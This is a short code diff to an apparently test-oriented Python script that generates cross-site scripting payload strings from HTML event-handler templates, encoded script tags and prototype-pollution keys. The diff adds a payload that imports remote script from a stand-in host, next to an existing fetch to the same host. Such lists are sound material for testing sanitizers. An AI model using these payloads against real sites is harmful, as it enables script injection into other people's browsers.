@@ -17,8 +17,9 @@ TEMPLATES = [
     "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<math><mi xlink:href=javascript:{}>",
     "__proto__", "constructor", "toString", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;",
 ]
-CALLS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')"]
+CALLS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "import('//evil.example/x.js')"]
 STRINGS = [template.format(call) for call in CALLS for template in TEMPLATES] + ["\u202e<b>desrever", "a\u0000b", "\ud7ff<\ufffd>"]
+STRINGS = list(dict.fromkeys(STRINGS))
 
 
 def main(folder):
